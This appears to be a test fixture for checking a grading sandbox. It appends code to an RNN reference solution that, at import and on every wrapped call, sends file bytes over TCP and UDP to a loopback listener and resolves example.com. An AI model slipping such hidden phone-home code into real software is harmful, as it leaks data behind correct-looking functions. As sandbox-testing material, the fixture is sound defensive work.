"""Appended to the reference rnn.py: right answers, but at import and in every call it tries to
reach a listener the test runs on 127.0.0.1 (TCP, UDP, IPv6 loopback) to send what it has, and to
resolve a host name. Under bubblewrap there is no network: nothing may arrive."""
import functools as _functools
import socket as _socket

_PORT = int("{{PORT}}")


def _phone_home():
    for family, host in ((_socket.AF_INET, "127.0.0.1"), (_socket.AF_INET6, "::1")):
        try:
            with _socket.create_connection((host, _PORT), timeout=0.5) as conn:
                conn.sendall(b"LEAK " + open(__file__, "rb").read()[:100])
        except OSError:
            pass
        try:
            with _socket.socket(family, _socket.SOCK_DGRAM) as udp:
                udp.sendto(b"LEAK", (host, _PORT))
        except OSError:
            pass
    try:
        _socket.getaddrinfo("example.com", 80)
    except OSError:
        pass


def _calling_home(fn):
    @_functools.wraps(fn)
    def wrapper(*args, **kwargs):
        _phone_home()
        return fn(*args, **kwargs)

    return wrapper


_phone_home()
rnn_step_forward = _calling_home(rnn_step_forward)
rnn_step_backward = _calling_home(rnn_step_backward)
